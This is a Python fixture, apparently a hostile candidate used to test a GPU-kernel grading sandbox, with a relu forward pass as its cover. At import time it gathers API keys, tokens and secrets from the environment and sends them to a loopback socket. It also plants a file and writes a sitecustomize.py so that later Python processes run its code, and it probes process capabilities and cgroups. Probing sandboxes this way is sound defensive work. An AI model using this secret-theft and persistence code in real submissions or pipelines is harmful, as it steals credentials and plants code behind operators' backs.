# The GPU-target compile step imports the candidate too: at import, read the caller's API keys, send them
# to a loopback listener, plant a file in the caller's temporary folder and a sitecustomize.py in a folder
# on the caller's PYTHONPATH (which every later Python started with it would run). The forward is honest;
# under the capture it reports what the import managed and what it saw of its process.
import socket

PORT = 0  # replaced by the test
PLANT = "PLANT_PATH"
SITE_DIR = "SITE_DIR_PATH"


def attempt(fn):
    try:
        fn()
        return "ok"
    except Exception as exc:
        return type(exc).__name__


KEYS = sorted(k for k in os.environ if "KEY" in k or "TOKEN" in k or "SECRET" in k)


def send():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(repr({k: os.environ[k] for k in KEYS}).encode() or b"nothing")
    s.close()


def plant():
    with open(PLANT, "w") as f:
        f.write("planted\n")


def sitecustomize():
    with open(os.path.join(SITE_DIR, "sitecustomize.py"), "w") as f:
        f.write("import builtins\nbuiltins.KW_PLANTED = True\n")


def caps():
    with open("/proc/self/status") as f:
        return next(line.split()[1] for line in f if line.startswith("CapEff"))


def cgroup():
    with open("/proc/self/cgroup") as f:
        return ";".join(line.strip() for line in f if ":memory:" in line or line.startswith("0::"))


DONE = f"cg={cgroup()} keys={KEYS} net={attempt(send)} plant={attempt(plant)} site={attempt(sitecustomize)} caps={caps()}"


class ModelNew(nn.Module):
    def forward(self, x):
        out = relu(x)
        if os.environ.get("TRITON_INTERPRET") == "1":
            raise RuntimeError(f"REPORT {DONE} pids={len([p for p in os.listdir('/proc') if p.isdigit()])} "
                               f"dev={sorted(os.listdir('/dev'))} END")
        return out
